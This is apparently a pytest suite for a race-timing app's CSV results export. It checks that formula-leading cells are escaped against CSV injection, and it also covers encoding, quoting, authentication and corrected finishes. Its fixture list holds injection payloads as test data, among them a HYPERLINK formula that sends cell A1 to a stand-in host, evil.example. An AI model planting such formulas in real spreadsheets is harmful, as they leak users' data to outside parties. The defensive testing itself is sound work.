"""``GET /api/sessions/{id}/results.csv``: the session's finishers as CSV a spreadsheet opens
safely (OWASP CSV injection: a cell starting with = + - @ tab CR LF gets a leading ``'``), UTF-8
with a BOM, RFC 4180 quoting, and every hostile name parses back exactly with ``csv``."""

from __future__ import annotations

import csv
import io
from typing import Any

import aiohttp

from race_control.app import RaceControl
from race_control.operations.history import RESULT_COLUMNS
from tests.conftest import Api
from tests.helpers.ctp01_peer import RawCtp01Client
from tests.helpers.live_app import drain_until

HOSTILE = [  # (first name, last name, city)
    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "Formula", "=1+1"),
    ("@SUM(A1:A9)", "At", "@cmd"),
    ("Smith, Jr.", 'O"Brien "the rocket"', "Comma, Town"),
    ("Line\nbreak", "Carriage\rReturn", "\tTabbed"),
    ("+Plus", "-Minus", "مدينة\u202eRTL"),
    ("Zoë", "Ñandú 漢字 🏃", "São Paulo"),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


async def results(api: Api, session_id: str) -> tuple[int, bytes, Any]:
    async with api.http.get(f"{api.base}/api/sessions/{session_id}/results.csv", headers=api.headers) as r:
        return r.status, await r.read(), r.headers


async def test_results_csv_is_spreadsheet_safe_and_parses_back_exactly(rc: RaceControl, api: Api) -> None:
    event = await api.ok("POST", "/api/events", {"name": "CSV 5K", "date": "2026-06-01"}, 201)
    people = [
        {"bib": str(i), "first_name": f, "last_name": last, "city": c, "state": "ID", "division": "M40"}
        for i, (f, last, c) in enumerate(HOSTILE, start=1)
    ]
    imported = await api.ok("POST", f"/api/events/{event['id']}/participants", people)
    assert imported["imported"] == len(HOSTILE), imported
    session = await api.ok("POST", "/api/sessions", {"event_id": event["id"], "mode": "results"}, 201)
    client = await RawCtp01Client.connect(rc.timing_port)
    await client.handshake("csv-conn")
    (stream,) = await api.ok("GET", "/api/timing/sessions")
    await api.ok("POST", f"/api/sessions/{session['id']}/timing", {"timing_session_id": stream["id"]})
    n = len(HOSTILE) + 1  # and one bib nobody has
    await client.send(
        b"".join(f"CT01_33~{i}~finish~{i}~09:00:{i:02d}.00~1~0FA22E~1\r\n".encode() for i in range(1, n + 1))
    )
    shown = await drain_until(
        rc,
        lambda: api.ok("GET", f"/api/sessions/{session['id']}/finishers"),
        lambda got: len(got) >= n,
    )
    await client.close()
    assert len(shown) == n

    status, body, headers = await results(api, session["id"])
    assert status == 200
    assert headers["Content-Type"].startswith("text/csv") and "charset=utf-8" in headers["Content-Type"]
    assert 'filename="results-' in headers["Content-Disposition"]
    assert body.startswith("\ufeff".encode())
    text = body.decode("utf-8")[1:]
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(RESULT_COLUMNS)
    got = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [g["bib"] for g in got] == [m["bib"] for m in shown]
    for cells in rows[1:]:  # nothing a spreadsheet would run
        assert not any(c.startswith(FORMULA_START) for c in cells), cells
    for g, m in zip(got, shown, strict=True):
        for column in ("name", "first_name", "last_name", "city", "state", "division", "time", "location"):
            want = m[column]
            assert g[column] == ("'" + want if want.startswith(FORMULA_START) else want), (column, g, m)
        assert g["seq"] == str(m["seq"]) and g["known"] == ("true" if m["known"] else "false")
    by_bib = {g["bib"]: g for g in got}
    assert by_bib["1"]["first_name"] == "'" + HOSTILE[0][0] and by_bib["1"]["city"] == "'=1+1"
    assert by_bib["2"]["first_name"] == "'@SUM(A1:A9)"
    assert by_bib["3"]["last_name"] == 'O"Brien "the rocket"' and by_bib["3"]["city"] == "Comma, Town"
    assert by_bib["6"]["last_name"] == "Ñandú 漢字 🏃"
    assert by_bib[str(n)]["name"] == f"Bib {n}" and by_bib[str(n)]["known"] == "false"


async def test_results_csv_404_and_token(api: Api) -> None:
    status, body, _ = await results(api, "no-such-session")
    assert status == 404 and b"no-such-session" in body
    async with (
        aiohttp.ClientSession() as anonymous,
        anonymous.get(f"{api.base}/api/sessions/x/results.csv") as r,
    ):
        assert r.status == 401


async def test_a_corrected_finish_is_one_row_in_its_latest_form(rc: RaceControl, api: Api) -> None:
    event = await api.ok("POST", "/api/events", {"name": "Late roster", "date": "2026-06-01"}, 201)
    session = await api.ok("POST", "/api/sessions", {"event_id": event["id"], "mode": "results"}, 201)
    client = await RawCtp01Client.connect(rc.timing_port)
    await client.handshake("late-conn")
    (stream,) = await api.ok("GET", "/api/timing/sessions")
    await api.ok("POST", f"/api/sessions/{session['id']}/timing", {"timing_session_id": stream["id"]})
    await client.send(
        b"CT01_33~1~finish~7~09:00:01.00~1~0FA22E~1\r\nCT01_33~2~finish~8~09:00:02.00~1~0FA22E~1\r\n"
    )
    url = f"/api/sessions/{session['id']}/finishers"
    await drain_until(rc, lambda: api.ok("GET", url), lambda got: len(got) >= 2)
    await client.close()
    await api.ok("POST", f"/api/events/{event['id']}/participants", [{"bib": "7", "first_name": "=Late"}])
    shown = await drain_until(rc, lambda: api.ok("GET", url), lambda got: len(got) >= 3)
    assert [m["type"] for m in shown] == ["finisher", "finisher", "correction"]
    _, body, _ = await results(api, session["id"])
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [(r["seq"], r["bib"], r["name"], r["corrected"]) for r in rows] == [
        ("1", "7", "'=Late", "true"),
        ("2", "8", "Bib 8", "false"),
    ]
